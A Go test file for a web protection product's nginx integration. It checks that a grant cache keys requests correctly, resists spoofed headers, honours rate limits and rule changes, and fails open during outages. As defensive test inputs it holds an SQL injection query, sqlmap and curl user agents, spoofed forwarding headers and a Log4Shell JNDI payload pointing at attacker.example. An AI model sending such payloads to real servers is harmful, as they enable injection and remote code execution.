package deploy_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/core"
	"github.com/palisadehq/palisade/internal/engine"
	"github.com/palisadehq/palisade/internal/testenv"
)

// cacheOff is the command palisade.conf's header gives to switch the
// grant cache off; withoutCache does what it does.
const cacheOff = `sed -i '/^ *# BEGIN palisade-cache/,/^ *# END palisade-cache/d'`

var (
	cacheBegin = regexp.MustCompile(`^ *# BEGIN palisade-cache`)
	cacheEnd   = regexp.MustCompile(`^ *# END palisade-cache`)
)

// withoutCache is a snippet with the grant cache switched off as
// palisade.conf's header says: sed's range deletion, line by line (the
// range ends at the first line after its start that matches the end).
func withoutCache(s string) string {
	var out []string
	in := false
	for _, line := range strings.SplitAfter(s, "\n") {
		switch {
		case in:
			in = !cacheEnd.MatchString(line)
		case cacheBegin.MatchString(line):
			in = true
		default:
			out = append(out, line)
		}
	}
	return strings.Join(out, "")
}

// cacheBlocks are the snippet's grant cache blocks, BEGIN to END lines.
func cacheBlocks(s string) []string {
	var blocks []string
	cur := ""
	in := false
	for _, line := range strings.SplitAfter(s, "\n") {
		switch {
		case in:
			cur += line
			if cacheEnd.MatchString(line) {
				blocks, in = append(blocks, cur), false
			}
		case cacheBegin.MatchString(line):
			cur, in = line, true
		}
	}
	return blocks
}

// TestNginxCacheKeyIsTheEngines: the auth location of palisade.conf and
// palisade-fail-closed.conf keys the cache on the website's key, the host,
// the method, the full URI, the protocol, the client address and every
// header of engine.CacheKeyHeaders, in order, and with the cache on passes
// Palisade exactly those headers (proxy_pass_request_headers off, one
// proxy_set_header each from the same variable) besides the ones the
// contract sets itself; without its block, the location is as it was:
// every header passed, none cached. The sed line the header gives deletes
// exactly the blocks.
func TestNginxCacheKeyIsTheEngines(t *testing.T) {
	want := []string{"$palisade_key", "$host", "$request_method", "$request_uri", "$server_protocol", "$remote_addr"}
	for _, h := range engine.CacheKeyHeaders {
		want = append(want, "$http_"+strings.ReplaceAll(strings.ToLower(h), "-", "_"))
	}
	for _, f := range []string{"palisade.conf", "palisade-fail-closed.conf"} {
		b, err := os.ReadFile(filepath.Join("nginx", f))
		if err != nil {
			t.Fatal(err)
		}
		s := string(b)
		blocks := cacheBlocks(s)
		if len(blocks) != 1 {
			t.Fatalf("nginx/%s: %d grant cache blocks, want 1 (in the auth location)", f, len(blocks))
		}
		block := blocks[0]
		loc := s[strings.Index(s, "location = /_palisade/auth {"):]
		loc = loc[:strings.Index(loc, "\n}\n")]
		if !strings.Contains(loc, block) {
			t.Fatalf("nginx/%s: the grant cache block is not in the auth location", f)
		}
		m := regexp.MustCompile(`(?s)proxy_cache_key "([^"]*)";`).FindStringSubmatch(block)
		if m == nil {
			t.Fatalf("nginx/%s: no proxy_cache_key", f)
		}
		if got := strings.Fields(m[1]); strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("nginx/%s: proxy_cache_key is\n%s\nwant (engine.CacheKeyHeaders)\n%s", f, strings.Join(got, " "), strings.Join(want, " "))
		}
		for _, d := range []string{"proxy_cache palisade_grants;", "proxy_cache_methods GET HEAD;", "proxy_cache_lock off;", "proxy_cache_use_stale off;",
			"proxy_ignore_headers Cache-Control Expires;", "proxy_pass_request_headers off;"} {
			if !strings.Contains(block, "\n    "+d+"\n") {
				t.Errorf("nginx/%s: the grant cache block lacks %q", f, d)
			}
		}
		if strings.Contains(block, "proxy_cache_valid") {
			t.Errorf("nginx/%s: proxy_cache_valid would cache answers Palisade did not mark (only X-Accel-Expires may)", f)
		}
		// What the location sends with the cache on: the key's headers,
		// each from its key variable, and the contract's own.
		sent := map[string]string{}
		for _, m := range regexp.MustCompile(`(?m)^    proxy_set_header (\S+) (.*);$`).FindAllStringSubmatch(loc, -1) {
			sent[http.CanonicalHeaderKey(m[1])] = m[2]
		}
		for _, h := range engine.CacheKeyHeaders {
			if v := sent[h]; v != "$http_"+strings.ReplaceAll(strings.ToLower(h), "-", "_") {
				t.Errorf("nginx/%s: %s is sent as %q, not from its key variable", f, h, v)
			}
			delete(sent, h)
		}
		own := map[string]string{"X-Palisade-Key": "$palisade_key", "X-Original-Uri": "$request_uri", "X-Original-Method": "$request_method",
			"X-Original-Host": "$host", "X-Original-Protocol": "$server_protocol", "X-Real-Ip": "$remote_addr", "Connection": `""`, "Content-Length": `""`}
		for h, v := range sent {
			if v != `""` && own[h] != v {
				t.Errorf("nginx/%s: the auth location sends %s %s, which is neither in the key nor the contract's", f, h, v)
			}
		}
		off := withoutCache(s)
		if strings.Contains(off, "proxy_cache") || strings.Contains(off, "proxy_pass_request_headers") || strings.Contains(off, "$http_") {
			t.Errorf("nginx/%s without the grant cache block still caches or filters headers", f)
		}
		if len(off) != len(s)-len(block) {
			t.Errorf("nginx/%s: the sed line deletes %d bytes, the block is %d: a comment line starts or ends a range", f, len(s)-len(off), len(block))
		}
	}
	b, err := os.ReadFile(filepath.Join("nginx", "palisade-upstream.conf"))
	if err != nil {
		t.Fatal(err)
	}
	if blocks := cacheBlocks(string(b)); len(blocks) != 1 || !strings.Contains(blocks[0], "proxy_cache_path "+nginxCacheDir+" ") || !strings.Contains(blocks[0], "keys_zone=palisade_grants:") {
		t.Errorf("palisade-upstream.conf: want one grant cache block with proxy_cache_path %s … keys_zone=palisade_grants", nginxCacheDir)
	}
	conf, _ := os.ReadFile(filepath.Join("nginx", "palisade.conf"))
	if !strings.Contains(string(conf), "#   "+cacheOff+" palisade.conf palisade-fail-closed.conf palisade-upstream.conf\n") {
		t.Error("palisade.conf's header no longer says how to switch the grant cache off")
	}
}

// authCounter stands between nginx and Palisade and counts the verdict
// requests nginx makes, by host, URI, client address and user agent.
type authCounter struct {
	to string
	mu sync.Mutex
	n  map[string]int
}

func (c *authCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/forward-auth/nginx" {
		c.mu.Lock()
		c.n[r.Header.Get("X-Original-Host")+r.Header.Get("X-Original-Uri")+" "+r.Header.Get("X-Real-Ip")+" "+r.UserAgent()]++
		c.mu.Unlock()
	}
	out := r.Clone(r.Context())
	out.RequestURI, out.URL.Scheme, out.URL.Host = "", "http", c.to
	resp, err := http.DefaultTransport.RoundTrip(out)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	defer resp.Body.Close()
	for k, v := range resp.Header {
		w.Header()[k] = v
	}
	w.WriteHeader(resp.StatusCode)
	_, _ = io.Copy(w, resp.Body)
}

func (c *authCounter) count(hostURI, ip, ua string) int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n[hostURI+" "+ip+" "+ua]
}

// clientFrom asks nginx on loopback port from the local address ip (any
// of 127.0.0.0/8), as a browser with user agent ua and the headers hd.
func clientFrom(port int, ip string) func(host, path, ua string, hd map[string]string) (int, string) {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	return func(host, path, ua string, hd map[string]string) (int, string) {
		req, _ := http.NewRequest("GET", fmt.Sprintf("http://127.0.0.1:%d%s", port, path), nil)
		req.Host = host
		testenv.AsBrowser(req, ua)
		for k, v := range hd {
			req.Header.Set(k, v)
		}
		resp, err := client.Do(req)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
}

const firefoxUA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"

// TestNginxGrantCache runs the shipped snippets with the grant cache in a
// real nginx, counting the verdict requests nginx makes to Palisade:
//   - a browser's repeated requests are answered from the cache (Palisade
//     sees one of five), while another query, user agent or client address
//     misses it;
//   - a challenged or denied client is never answered from it (Palisade
//     sees every request), nor a website with a rate limit (the limit
//     still refuses through nginx);
//   - a visitor cannot borrow or poison another's entry: a spoofed
//     X-Real-IP, X-Original-* or X-Forwarded-For from the visitor does not
//     change the key nginx uses (its own $remote_addr, $request_uri);
//   - a deny rule added after a grant was cached refuses the request once
//     the grant's lifetime (1 s here) has run out;
//   - while Palisade is down, a cached grant lasts at most its lifetime.
func TestNginxGrantCache(t *testing.T) {
	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	pal := testenv.New(t)
	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
	cached := pal.Website(t, "cached.example.com", remoteVisitors(engine.Settings{}))
	limited := pal.Website(t, "limited.example.com", remoteVisitors(engine.Settings{
		RateLimits: []engine.RateLimit{{Name: "Everything", Requests: 5, Period: "1m", Action: "deny"}}}))
	site := httptest.NewServer(siteWithOwnRefusals())
	defer site.Close()
	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
	front := httptest.NewServer(counter)
	defer front.Close()
	port := freePort(t)
	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"),
		nginxServer(port, "cached.example.com", cached.ServerKey, "palisade.conf", site.URL)+
			nginxServer(port, "limited.example.com", limited.ServerKey, "palisade.conf", site.URL), nil)
	a, b := clientFrom(port, "127.0.0.1"), clientFrom(port, "127.0.0.2")
	webGetter(port).waitUp(t, "cached.example.com", "nginx")

	want := func(get func(host, path, ua string, hd map[string]string) (int, string), host, path, ua string, hd map[string]string, code int, what string) {
		t.Helper()
		got, body := get(host, path, ua, hd)
		if got != code || (code == 200) != strings.HasPrefix(body, "hello from ") {
			t.Fatalf("%s: %d %.200q, want %d", what, got, body, code)
		}
	}
	asked := func(hostURI, ip, ua string, n int, what string) {
		t.Helper()
		if got := counter.count(hostURI, ip, ua); got != n {
			t.Errorf("%s: Palisade was asked %d times, want %d", what, got, n)
		}
	}

	for i := 0; i < 5; i++ {
		want(a, "cached.example.com", "/page", chromeUA, nil, 200, "a browser")
	}
	asked("cached.example.com/page", "127.0.0.1", chromeUA, 1, "a browser's five requests")
	want(a, "cached.example.com", "/page?id=2", chromeUA, nil, 200, "another query")
	asked("cached.example.com/page?id=2", "127.0.0.1", chromeUA, 1, "another query")
	want(a, "cached.example.com", "/page", firefoxUA, nil, 200, "another user agent")
	asked("cached.example.com/page", "127.0.0.1", firefoxUA, 1, "another user agent")
	want(b, "cached.example.com", "/page", chromeUA, nil, 200, "another client address")
	asked("cached.example.com/page", "127.0.0.2", chromeUA, 1, "another client address")

	// Challenged and denied clients: asked every time, never served.
	for i := 0; i < 3; i++ {
		want(a, "cached.example.com", "/page", "curl/8.5.0", nil, 403, "curl (challenged)")
		want(a, "cached.example.com", "/page", "sqlmap/1.7.2#stable", nil, 403, "sqlmap (denied)")
		want(a, "cached.example.com", "/page?id=1'%20OR%20'1'='1", chromeUA, nil, 403, "an SQL injection (the website firewall)")
	}
	asked("cached.example.com/page", "127.0.0.1", "curl/8.5.0", 3, "curl, challenged three times")
	asked("cached.example.com/page", "127.0.0.1", "sqlmap/1.7.2#stable", 3, "sqlmap, denied three times")

	// Another visitor cannot use the browser's entry by naming its
	// address or its request: nginx keys on what it saw itself.
	spoof := map[string]string{"X-Real-Ip": "127.0.0.1", "X-Forwarded-For": "127.0.0.1", "X-Original-Uri": "/page", "X-Original-Host": "cached.example.com",
		"X-Original-Method": "GET", "X-Original-Protocol": "HTTP/1.1"}
	want(b, "cached.example.com", "/page", "sqlmap/1.7.2#stable", spoof, 403, "sqlmap at another address naming the browser's")
	want(b, "cached.example.com", "/other", "curl/8.5.0", spoof, 403, "curl naming the browser's cached request")
	// Nor plant an entry for another: the browser's request that follows a
	// spoofing visitor's is judged on its own.
	want(b, "cached.example.com", "/planted", chromeUA, map[string]string{"X-Real-Ip": "127.0.0.1"}, 200, "a browser naming another address")
	want(a, "cached.example.com", "/planted", "sqlmap/1.7.2#stable", nil, 403, "sqlmap after a grant for another visitor's key")

	// A rate-limited website: every request is asked, and the limit holds.
	refused := 0
	for i := 0; i < 8; i++ {
		code, _ := a("limited.example.com", "/page", chromeUA, nil)
		if code == 403 {
			refused++
		}
	}
	asked("limited.example.com/page", "127.0.0.1", chromeUA, 8, "a rate-limited website's eight requests")
	if refused != 3 {
		t.Errorf("rate limit 5 a minute through nginx with the grant cache: %d of 8 refused, want 3", refused)
	}

	// A rule change reaches a cached grant within its lifetime.
	pal.Protector.Engine.SetGrantCache(time.Second)
	want(a, "cached.example.com", "/soon-denied", chromeUA, nil, 200, "before the rule")
	want(a, "cached.example.com", "/soon-denied", chromeUA, nil, 200, "before the rule, again")
	asked("cached.example.com/soon-denied", "127.0.0.1", chromeUA, 1, "before the rule")
	ctx := context.Background()
	st := remoteVisitors(engine.Settings{Rules: []engine.Rule{{Name: "Soon", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "is", Value: "/soon-denied"}}}}})
	if _, err := pal.Service.UpdateWebsiteSettings(ctx, pal.Caller, "cached.example.com", st, core.Match{}); err != nil {
		t.Fatal(err)
	}
	if err := pal.Protector.Reload(ctx); err != nil {
		t.Fatal(err)
	}
	// Bound: the lifetime, and slack for a loaded machine; a cache that
	// kept the grant longer (60 s, as above) would not be refused here.
	deadline := time.Now().Add(10 * time.Second)
	for {
		code, _ := a("cached.example.com", "/soon-denied", chromeUA, nil)
		if code == 403 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the deny rule did not reach a grant cached for 1 s within 10 s: %d", code)
		}
		time.Sleep(100 * time.Millisecond)
	}

	// Palisade down: a grant cached for 1 s serves until it expires, then
	// the site is fail-open (palisade.conf) as without the cache: the
	// counter's address now refuses connections.
	want(a, "cached.example.com", "/outage", chromeUA, nil, 200, "before the outage")
	front.Close()
	time.Sleep(1500 * time.Millisecond)
	if code, _ := a("cached.example.com", "/outage", "sqlmap/1.7.2#stable", nil); code != 200 {
		t.Fatalf("fail-open while Palisade is down, with the cache: %d", code)
	}
}

// TestNginxWithoutGrantCache runs the snippets with the grant cache
// switched off as palisade.conf's header says (its blocks deleted), the way
// bench/compare.sh measures nginx without it: nginx accepts them, and
// Palisade is asked for every request, with every header the visitor sent.
func TestNginxWithoutGrantCache(t *testing.T) {
	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
	pal := testenv.New(t)
	w := pal.Website(t, "shop.example.com", remoteVisitors(engine.Settings{Rules: []engine.Rule{
		{Name: "Header", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Api-Key", Op: "is", Value: "leaked"}}}}}))
	site := httptest.NewServer(siteWithOwnRefusals())
	defer site.Close()
	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
	front := httptest.NewServer(counter)
	defer front.Close()
	port := freePort(t)
	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"), nginxServer(port, "shop.example.com", w.ServerKey, "palisade.conf", site.URL), withoutCache)
	webGetter(port).waitUp(t, "shop.example.com", "nginx")
	a := clientFrom(port, "127.0.0.1")
	for i := 0; i < 3; i++ {
		if code, body := a("shop.example.com", "/page", chromeUA, nil); code != 200 {
			t.Fatalf("browser: %d %q", code, body)
		}
	}
	if n := counter.count("shop.example.com/page", "127.0.0.1", chromeUA); n != 3 {
		t.Errorf("without the cache Palisade was asked %d times for three requests", n)
	}
	// Every header reaches Palisade: a rule on one outside the key, and
	// the website firewall on any.
	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Key": "leaked"}); code != 403 {
		t.Errorf("a rule on a header outside the key, without the cache: %d", code)
	}
	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 403 {
		t.Errorf("Log4Shell in a header outside the key, without the cache: %d", code)
	}
}
